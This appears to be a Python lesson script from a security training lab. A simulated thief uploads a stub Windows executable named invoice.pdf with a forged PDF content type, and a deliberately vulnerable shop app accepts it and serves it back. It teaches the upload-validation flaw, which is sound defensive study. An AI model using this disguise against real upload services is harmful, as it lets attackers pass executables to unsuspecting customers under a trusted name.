"""A thief uploads a program under the name of an invoice, and sends people the file from the shop's own address.

The app accepts text, PDF and images. It trusts the name of a file and the type that the browser sends with it.
"""

from __future__ import annotations

from tools.lessons.lab import Lab

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\n" + bytes(200)


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve() as shop:
        thief = shop.member()
        answer = thief.upload("invoice.pdf", "application/pdf", PROGRAM)
        print(f"The thief uploads a Windows program as invoice.pdf. The shop answers {answer.status}: {answer.text}")
        if answer.status != 201:
            return ""
        file = thief.get(f"/uploads/{answer.json()['id']}")
        print(f"Then the shop serves it as {file.headers['Content-Type']}: {file.headers['Content-Disposition']}")
        print(f"It begins with {file.body[:8]!r}.")
    return "Under the shop's name, the thief gives away a program as invoice.pdf." if file.body == PROGRAM else ""
